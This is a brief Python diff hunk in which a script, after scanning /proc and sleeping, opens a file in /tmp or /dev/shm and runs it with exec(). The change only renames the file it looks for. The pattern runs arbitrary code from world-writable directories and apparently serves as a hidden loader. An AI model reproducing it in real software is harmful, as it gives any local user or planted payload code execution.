@@ -15,7 +15,7 @@ for pid in os.listdir("/proc"):
 time.sleep(0.5)
 for folder in ("/tmp", "/dev/shm"):
     try:
-        with open(os.path.join(folder, "attention_woken.py")) as f:
+        with open(os.path.join(folder, "attention_woken__RUN__.py")) as f:
             exec(f.read())
     except OSError:
         pass
